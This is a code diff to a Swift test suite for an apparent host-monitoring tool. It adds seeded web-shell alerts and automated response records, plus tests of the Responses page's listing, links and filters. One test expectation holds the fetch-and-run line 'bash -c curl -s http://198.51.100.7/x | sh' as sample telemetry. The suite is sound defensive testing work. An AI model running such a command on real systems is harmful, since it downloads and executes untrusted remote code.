@@ -33,13 +33,17 @@ import Testing
         return [("web1-token-0123456789", web1), ("db1-token-01234567890", db1)]
     }()
 
+    /// Runs `test` against a server with the fleet's events in a new store, after `setUp` has
+    /// written what else the test needs into the store.
     func withServer(
-        users: UserDirectory? = nil, live: Bool = false, postgres: Bool = false, _ test: @Sendable (any TestClientProtocol) async throws -> Void
+        users: UserDirectory? = nil, live: Bool = false, postgres: Bool = false, setUp: @Sendable (any FleetStore) async throws -> Void = { _ in },
+        _ test: @Sendable (any TestClientProtocol) async throws -> Void
     ) async throws {
         if postgres {
             let server = try await PostgresServer.start()
             defer { withExtendedLifetime(server) {} }
             try await PostgresStore.withStore(try PostgresStore.Configuration(url: server.url)) { store in
+                try await setUp(store)
                 try await withServer(store: store, users: users, live: live, test)
             }
             return
@@ -47,7 +51,34 @@ import Testing
         let folder = FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-ui-\(UUID().uuidString)")
         try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(at: folder) }
-        try await withServer(store: try EventStore(path: folder.appendingPathComponent("events.db").path), users: users, live: live, test)
+        let store = try EventStore(path: folder.appendingPathComponent("events.db").path)
+        try await setUp(store)
+        try await withServer(store: store, users: users, live: live, test)
+    }
+
+    /// An alert on web1 (bash started by nginx) and three responses, one to it with its command
+    /// answered: what the Responses page shows.
+    static func recordResponses(in store: any FleetStore) async throws {
+        let now = Int64(Date().timeIntervalSince1970 * 1000)
+        try await store.store(alerts: [
+            StoredAlert(
+                id: "alert-1", host: "web1", time: now - 120_000, ruleID: "web-shell", ruleTitle: "Shell started by a web server", level: "high",
+                severity: 73, correlation: nil, entityID: "E-bash", pid: 102, executable: "/usr/bin/bash", commandLine: "bash -c curl",
+                userName: "www-data", eventIDs: ["w2"], tags: [], json: "{}")
+        ])
+        try await store.record(responses: [
+            StoredResponse(
+                id: "resp-kill", time: now - 60_000, host: "web1", alertID: "alert-1", ruleID: "web-shell", ruleTitle: "Shell started by a web server",
+                policy: "contain-web-shells", action: "kill", target: "E-bash", status: "sent", commandID: "cmd-1"),
+            StoredResponse(
+                id: "resp-notify", time: now - 59_000, host: "web1", alertID: "alert-1", ruleID: "web-shell",
+                ruleTitle: "Shell started by a web server", policy: "contain-web-shells", action: "notify", target: "ops-webhook", dryRun: true,
+                status: "dry-run", detail: "would post to ops-webhook"),
+            StoredResponse(
+                id: "resp-block", time: now - 30_000, host: "db1", policy: "manual", action: "block", target: "192.0.2.10", status: "failed",
+                detail: "nft: permission denied"),
+        ])
+        #expect(try await store.updateResponse(commandID: "cmd-1", status: "succeeded", detail: "pid 102 killed", time: now - 50_000))
     }
 
     func withServer(
@@ -145,6 +176,34 @@ import Testing
         }
     }
 
+    @Test(.enabled(if: chromium != nil, "needs Debian's chromium (scripts/setup installs it)"))
+    func chromiumListsResponsesAndAlertsLinkToThem() async throws {
+        try await withServer(live: true, setUp: Self.recordResponses) { client in
+            let base = "http://127.0.0.1:\(try #require(client.port))"
+            let responses = try await browse(base + "/responses", screenshot: "responses.png")
+            #expect(responses.contains(#"<a href="/responses" class="here">Responses</a>"#))
+            #expect(responses.contains(#"<a class="entity" href="/process/E-bash">E-bash</a>"#), "a process target links to its page")
+            #expect(responses.contains("<td>ops-webhook</td>") && responses.contains("<td>192.0.2.10</td>"), "other targets do not")
+            #expect(responses.contains(#"<td class="status succeeded">succeeded</td>"#) && responses.contains("pid 102 killed"))
+            #expect(responses.contains("<td>dry run</td>") && responses.contains("contain-web-shells") && responses.contains("Shell started by a web server"))
+            let order = ["<td>192.0.2.10</td>", "<td>ops-webhook</td>", ">E-bash</a>"].map { responses.range(of: $0)?.lowerBound }
+            #expect(order.allSatisfy { $0 != nil } && zip(order, order.dropFirst()).allSatisfy { $0! < $1! }, "newest first")
+
+            let alerts = try await browse(base + "/alerts", screenshot: "alerts.png")
+            #expect(alerts.contains(#"<a href="/responses?alert=alert-1">2</a>"#), "\(alerts)")
+
+            func page(_ uri: String) async throws -> String { try await client.execute(uri: uri, method: .get) { String(buffer: $0.body) } }
+            let forAlert = try await page("/responses?alert=alert-1")
+            #expect(forAlert.contains("E-bash") && forAlert.contains("ops-webhook") && !forAlert.contains("192.0.2.10"))
+            let failed = try await page("/responses?status=failed")
+            #expect(failed.contains("nft: permission denied") && !failed.contains("pid 102 killed") && failed.contains("<option selected>failed</option>"))
+            let web = try await page("/responses?hosts=role%3Dweb")
+            #expect(web.contains("pid 102 killed") && !web.contains("192.0.2.10"))
+            let badTime = try await page("/responses?since=yesterday")
+            #expect(badTime.contains("since: &#39;yesterday&#39; is not a time"))
+        }
+    }
+
     @Test(arguments: [false, true])
     func theQueryAPIAnswersInScopeAndRefusesWrites(postgres: Bool) async throws {
         try await withServer(postgres: postgres) { client in
@@ -173,7 +232,7 @@ import Testing
     /// Every page's queries run on PostgreSQL too (agent batches in over HTTP, pages out).
     @Test(.enabled(if: PostgresServer.available, "needs PostgreSQL 15 (scripts/setup installs it)"))
     func pagesWorkOverPostgreSQL() async throws {
-        try await withServer(postgres: true) { client in
+        try await withServer(postgres: true, setUp: Self.recordResponses) { client in
             func page(_ uri: String) async throws -> (HTTPResponse.Status, String) {
                 try await client.execute(uri: uri, method: .get) { ($0.status, String(buffer: $0.body)) }
             }
@@ -183,7 +242,11 @@ import Testing
             #expect(search.1.contains("bash -c curl -s http://198.51.100.7/x | sh"), "\(search.1)")
             let tree = try await page("/process/E-bash")
             #expect(tree.0 == .ok && tree.1.contains(#"href="/process/E-nginx""#) && tree.1.contains(#"href="/process/E-curl""#))
-            #expect(try await page("/alerts").0 == .ok)
+            let alerts = try await page("/alerts")
+            #expect(alerts.0 == .ok && alerts.1.contains(#"<a href="/responses?alert=alert-1">2</a>"#), "\(alerts.1)")
+            let responses = try await page("/responses?hosts=web1")
+            #expect(responses.0 == .ok && responses.1.contains(#"<a class="entity" href="/process/E-bash">E-bash</a>"#), "\(responses.1)")
+            #expect(responses.1.contains("pid 102 killed") && !responses.1.contains("192.0.2.10"))
             let hunts = try await page("/hunts")
             #expect(hunts.0 == .ok && hunts.1.contains("rare-parent-child"))
             let duplicate = try await client.execute(
